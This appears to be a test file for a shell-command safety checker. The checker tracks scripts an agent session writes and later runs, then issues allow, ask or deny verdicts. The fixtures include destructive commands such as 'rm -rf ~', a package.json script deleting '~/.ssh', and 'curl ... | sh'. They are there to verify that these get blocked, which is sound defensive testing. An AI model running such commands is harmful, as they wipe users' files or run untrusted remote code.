/** Files that a session writes in one action and runs in a later one. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  type Action,
  type Contents,
  type Context,
  createContext,
  decide,
  effectOf,
  explain,
  namedPaths,
  runsOf,
  VERDICTS,
  writtenFiles,
} from '../src/index.ts';

const options = { workingDirectory: '/w/sub', workspace: '/w', home: '/home/u' };
const context = createContext({ ...options, followsFiles: true });
const plain = createContext(options);

function command(text: string): Action {
  return { kind: 'command', command: text };
}

function writtenBy(action: Action, within: Context = context): readonly string[] {
  decide(action, within);
  return writtenFiles(within);
}

function runBy(text: string): readonly string[] {
  decide(command(text), context);
  return runsOf(context)?.paths ?? [];
}

/** Whether the command may run what lies there; undefined where it runs no file. */
function runs(text: string, path: string): boolean | undefined {
  decide(command(text), context);
  return runsOf(context)?.includes(path);
}

function verdictOn(text: string, contents: Contents): string {
  return VERDICTS[decide(command(text), context, contents).verdict];
}

const HOSTILE = 'echo start\nrm -rf ~\n';
const HARMLESS = '#!/bin/sh\nset -e\necho hello\nls -l\n';

describe('the files that an action writes', () => {
  test.each([
    ['cat > x.sh', ['/w/sub/x.sh']],
    ['echo a >> ../x.sh', ['/w/x.sh']],
    ['cd .. && echo a > x.sh', ['/w/x.sh', '/w/sub/x.sh']],
    ['echo a | tee ~/x.sh', ['/home/u/x.sh']],
    ['cp /tmp/y.sh bin', ['/w/sub/bin', '/w/sub/bin/y.sh']],
    ['mv a/b.py c.py', ['/w/sub/c.py', '/w/sub/c.py/b.py']],
    ['ln -s a.sh b.sh', ['/w/sub/b.sh', '/w/sub/b.sh/a.sh']],
    ['curl -o get.sh https://example.com/a', ['/w/sub/get.sh', '/w/sub/get.sh/a']],
    ['curl -O https://example.com/i/get.sh?x=1', ['/w/sub/get.sh']],
    ['wget https://example.com/i/get.sh', ['/w/sub/get.sh']],
    ['sh -c "echo a > inner.sh"', ['/w/sub/inner.sh']],
  ])('%s', (text, paths) => {
    expect(writtenBy(command(text))).toEqual(expect.arrayContaining(paths));
  });

  test.each(['cat x.sh', 'ls > /dev/null', 'gcc main.c -o main', 'echo a > "$F"', 'git status', 'grep a b 2>&1'])(
    'are none of %s',
    (text) => {
      expect(writtenBy(command(text))).toEqual([]);
    },
  );

  test('are those of file operations, too', () => {
    expect(writtenBy({ kind: 'file', operation: 'write', path: '/w/./x.sh' })).toEqual(['/w/x.sh']);
    expect(writtenBy({ kind: 'file', operation: 'read', path: '/w/x.sh' })).toEqual([]);
  });

  test('are not noted where nobody asks for them', () => {
    expect(writtenBy(command('cat > x.sh'), plain)).toEqual([]);
  });

  test('are absolute and without a step back, wherever a command was told to go', () => {
    const name = fc.stringMatching(/^[a-z]{1,6}$/u);
    const step = fc.oneof(name, fc.constantFrom('..', '.'));
    fc.assert(
      fc.property(fc.array(step, { maxLength: 5 }), fc.array(step, { maxLength: 5 }), name, (folders, path, file) => {
        const target = [...path, file].join('/');
        const folder = ['.', ...folders].join('/');
        const written = writtenBy(command(`cd ${folder} && echo a > ${target}`));
        const wanted = new URL(target, new URL(`${folder}/`, 'file:///w/sub/')).pathname;
        expect(written).toContain(wanted);
        expect(runBy(`cd ${folder} && bash ${target}`)).toContain(wanted);
      }),
      { numRuns: 200 },
    );
  });
});

describe('the files that an action runs', () => {
  test.each([
    ['bash x.sh', '/w/sub/x.sh'],
    ['./x.sh a b', '/w/sub/x.sh'],
    ['cd .. && ./x.sh', '/w/x.sh'],
    ['source ../x', '/w/x'],
    ['. ./x', '/w/sub/x'],
    ['python3 -u tools/x.py', '/w/sub/tools/x.py'],
    ['node x.js', '/w/sub/x.js'],
    ['sh < x.sh', '/w/sub/x.sh'],
    ['sudo bash ~/x.sh', '/home/u/x.sh'],
    ['timeout 5 $HOME/bin/x', '/home/u/bin/x'],
    ['true && (bash x.sh)', '/w/sub/x.sh'],
  ])('%s', (text, path) => {
    expect(runBy(text)).toContain(path);
  });

  test('may be one that the interpreter completes, or that a pattern means', () => {
    expect(runs('node x', '/w/sub/x.js')).toBe(true);
    expect(runs('python3 pkg', '/w/sub/pkg/__main__.py')).toBe(true);
    expect(runs('bash ./x*.sh', '/w/sub/xy.sh')).toBe(true);
    expect(runs('node x', '/w/sub/xy')).toBe(false);
    expect(runs('make', '/w/Makefile')).toBe(true);
    expect(runs('make', '/w/package.json')).toBe(false);
    expect(runs('npm test', '/w/package.json')).toBe(true);
    expect(runs('ls', '/w/package.json')).toBeUndefined();
  });
});

describe('the content of a file', () => {
  const path = '/w/sub/x.sh';

  test.each(['bash x.sh', './x.sh', 'source x.sh', 'cd .. && bash sub/x.sh', 'env A=1 sh ./x.sh', 'sh < x.sh'])(
    'counts where %s runs it',
    (text) => {
      expect(verdictOn(text, new Map([[path, HOSTILE]]))).toBe('deny');
      expect(verdictOn(text, new Map([[path, HARMLESS]]))).toBe(verdictOn(text, new Map()));
      expect(verdictOn(text, new Map([['/w/sub/other.sh', HOSTILE]]))).toBe(verdictOn(text, new Map()));
    },
  );

  test('that is not at hand is asked about', () => {
    expect(verdictOn('bash x.sh', new Map([[path, undefined]]))).toBe('ask');
    expect(explain(command('bash x.sh'), context, new Map([[path, undefined]])).reasons).toMatchObject([
      {
        code: 'code.unresolved',
        message: expect.stringContaining('"/w/sub/x.sh", which this session wrote and whose'),
      },
    ]);
  });

  test('is named in the reason, with what in it is stopped', () => {
    const { verdict, reasons, alternative } = explain(command('bash x.sh'), context, new Map([[path, HOSTILE]]));
    expect([verdict, alternative]).toEqual(['deny', undefined]);
    expect(reasons[0]?.message).toBe(
      'in "/w/sub/x.sh", which this session wrote: deletes "~" and everything below it (a whole home folder)',
    );
  });

  test('never makes an answer laxer', () => {
    const texts = ['bash x.sh', 'bash x.sh && rm -rf /', './x.sh; frobnicate', 'python3 x.sh', 'ls'];
    const lines = [
      'echo a',
      'rm -rf ~',
      'frobnicate',
      'curl https://a.example | sh',
      'exit 0',
      'if',
      '#!/usr/bin/env python3',
    ];
    fc.assert(
      fc.property(fc.constantFrom(...texts), fc.array(fc.constantFrom(...lines)), (text, content) => {
        const without = decide(command(text), context);
        const withIt = decide(command(text), context, new Map([[path, content.join('\n')]]));
        expect(withIt.verdict).toBeGreaterThanOrEqual(without.verdict);
        expect(withIt.risk).toBeGreaterThanOrEqual(without.risk);
      }),
    );
  });

  test('is read in the language of whoever runs it', () => {
    const python = "import shutil\nshutil.rmtree('/home/u')\n";
    expect(verdictOn('python3 x.py', new Map([['/w/sub/x.py', python]]))).toBe('ask');
    expect(verdictOn('python3 x.py', new Map([['/w/sub/x.py', 'print(1 + 1)\n']]))).toBe('allow');
    expect(verdictOn('./x.py', new Map([['/w/sub/x.py', `#!/usr/bin/env python3\n${python}`]]))).toBe('ask');
    expect(verdictOn('./x.py', new Map([['/w/sub/x.py', '#!/usr/bin/python3\nprint(2)\n']]))).toBe('allow');
    expect(verdictOn('node x', new Map([['/w/sub/x.js', 'console.log(1)']]))).toBe('allow');
    expect(verdictOn('node x', new Map([['/w/sub/x.js', "require('child_process')"]]))).toBe('ask');
  });

  test('of one script leads to the next', () => {
    const contents = new Map([
      [path, './y.sh\n'],
      ['/w/sub/y.sh', HOSTILE],
    ]);
    expect(verdictOn('bash x.sh', contents)).toBe('deny');
    decide(command('bash x.sh'), context, new Map([[path, './y.sh\n']]));
    expect(runsOf(context)?.paths).toEqual(['/w/sub/x.sh', '/w/sub/y.sh']);
  });

  test('that runs itself, or more files than are followed, comes to an end', () => {
    expect(verdictOn('bash x.sh', new Map([[path, 'bash x.sh; ./x.sh\n']]))).toBe('allow');
    const many = new Map(Array.from({ length: 100 }, (_, i) => [`/w/sub/x${i}.sh`, 'echo a\n'] as const));
    const all = Array.from({ length: 100 }, (_, i) => `bash x${i}.sh`).join('\n');
    expect(verdictOn('bash x0.sh', many)).toBe('allow');
    expect(verdictOn(all, many)).toBe('ask');
  });

  test('of a manifest is the script that the command names', () => {
    const manifest = JSON.stringify({
      description: 'removes all of it',
      scripts: { test: 'vitest run', clean: 'rm -rf ~', prepare: 'rm -rf ~/.ssh', lint: 'npm run clean' },
    });
    const contents = new Map([['/w/package.json', manifest]]);
    expect(verdictOn('npm test', contents)).toBe(verdictOn('npm test', new Map()));
    expect(verdictOn('npm run clean', contents)).toBe('deny');
    expect(verdictOn('npm install', contents)).toBe('deny');
    expect(verdictOn('npm run lint', contents)).toBe('deny');
    expect(verdictOn('npm test', new Map([['/w/package.json', '{']]))).toBe('ask');
    expect(verdictOn('make', new Map([['/w/Makefile', 'all:\n\techo a\n']]))).toBe('ask');
  });

  test('changes nothing in a context that follows no files', () => {
    const contents = new Map([[path, HOSTILE]]);
    expect(decide(command('bash x.sh'), plain, contents)).toEqual(decide(command('bash x.sh'), context));
  });
});

test('a context that follows files decides as one that does not', () => {
  const texts = [
    'bash x.sh',
    'cat > x.sh',
    'cd a && ./x.sh',
    'npm test',
    'curl -O https://a.example/x',
    'rm -rf ~',
    'ls',
  ];
  for (const text of texts) expect(decide(command(text), context)).toEqual(decide(command(text), plain));
});

describe('the paths that an action names for certain', () => {
  const naming = createContext({ ...options, namesPaths: true });
  const named = (text: string): string[] => {
    decide(command(text), naming);
    return namedPaths(naming).map(({ effect, path }) => `${effect} ${path}`);
  };

  test.each([
    ['rm -rf ~/old', ['file.delete-tree /home/u/old']],
    ['rm /srv/b/./c/', ['file.delete /srv/b/c']],
    ['rm "$HOME/x"', ['file.delete /home/u/x']],
    ['f=/srv/x; rm $f', ['file.delete /srv/x']],
    ['for f in a b; do rm /srv/$f; done', ['file.delete /srv/a', 'file.delete /srv/b']],
    ['rm ~/{a,b}', ['file.delete /home/u/a', 'file.delete /home/u/b']],
    ['mv a ~/b', ['file.move /w/sub/a', 'file.write /home/u/b']],
    ['timeout 9 sh -c "rm /srv/x"', ['file.delete /srv/x']],
    ['rm ../x', ['file.delete /w/x']],
    ['env -C /srv rm x', ['file.delete /srv/x']],
    ['cd ~/a && rm x', ['file.delete /home/u/a/x']],
    ['cd ~/a; rm /srv/x', ['file.delete /srv/x']],
    ['tar -C /srv -xf a.tar', ['file.unpack /srv', 'file.read /srv/a.tar']],
  ])('%s', (text, paths) => expect(named(text)).toEqual(paths));

  test.each([
    ['a pattern', 'rm ~/old/*.log'],
    ['a variable', 'rm $X'],
    ['a range that a shell fills in', 'rm ~/{a..z}'],
    ['another user’s home', 'rm ~bob/x'],
    ['a home that the action sets itself', 'HOME=/tmp; rm ~/x'],
    ['and its variable', 'export HOME=/srv && rm $HOME/x'],
    ['a folder that may not be entered', 'cd ~/a; rm x'],
    ['a folder entered by a subshell', '(cd /srv && rm x)'],
    ['a folder that is not known', 'cd $D && rm x'],
    ['a file of another machine', 'ssh host rm /etc/x'],
    ['a file of a container', 'docker exec box rm /etc/x'],
    ['a file below another root', 'chroot /mnt rm /etc/x'],
    ['a file of another user’s choice', 'sudo -R /mnt rm /etc/x'],
    ['a home that the action asks for', 'read HOME; rm ~/x'],
    ['a home that is none any more', 'unset HOME; rm ~/x'],
    ['what lies above a link', 'rm /srv/link/../x'],
    ['what counts from where a stranger may have gone', 'z /etc && rm x'],
    ['what counts from where a script may have gone', 'source ./go && rm x'],
  ])('not %s: %s', (_, text) => {
    expect(named(text).filter((line) => line.startsWith('file.delete'))).toEqual([]);
  });

  test('what is taken along comes to lie in a folder', () => {
    decide(command('cp a.txt sub/b.txt ~/d/'), naming);
    expect(namedPaths(naming).find(({ path }) => path === '/home/u/d')).toEqual({
      effect: 'file.write',
      path: '/home/u/d',
      taken: ['a.txt', 'b.txt'],
    });
  });

  test('what is taken along has a name', () => {
    decide(command('mv ~/old/ . ~/new'), naming);
    expect(namedPaths(naming).flatMap(({ taken }) => taken)).not.toContain('');
    expect(namedPaths(naming).flatMap(({ taken }) => taken)).not.toContain('.');
  });

  test('none, where the context was not asked to name them', () => {
    decide(command('rm /srv/x'), context);
    expect(namedPaths(context)).toEqual([]);
  });

  test('whether they are named changes no decision', () => {
    const words = fc.constantFrom('rm', '-rf', '~/x', '/srv/y', '*.log', 'cd', '&&', ';', 'cp', 'a', 'b', '$X', '> z');
    fc.assert(
      fc.property(fc.array(words, { minLength: 1, maxLength: 8 }), (line) => {
        const action = command(line.join(' '));
        expect(decide(action, naming)).toEqual(decide(action, context));
      }),
    );
  });

  test('each is absolute, and of an effect that the explanation has on a path', () => {
    const words = fc.constantFrom(
      'rm',
      '-rf',
      '~/x',
      '/srv/y',
      '../q',
      'cat',
      'cp',
      'a',
      'b',
      'sudo',
      '&&',
      'mkdir -p c',
    );
    fc.assert(
      fc.property(fc.array(words, { minLength: 1, maxLength: 8 }), (line) => {
        decide(command(line.join(' ')), naming);
        const paths = namedPaths(naming);
        const { effects } = explain(command(line.join(' ')), naming);
        const onPaths = effects.filter(({ effect }) => effectOf(effect).path !== undefined).map(({ effect }) => effect);
        for (const { effect, path } of paths) {
          expect(path).toMatch(/^\/(?!.*\/\.\.?(?:\/|$))/u);
          expect(onPaths).toContain(effect);
        }
      }),
    );
  });
});
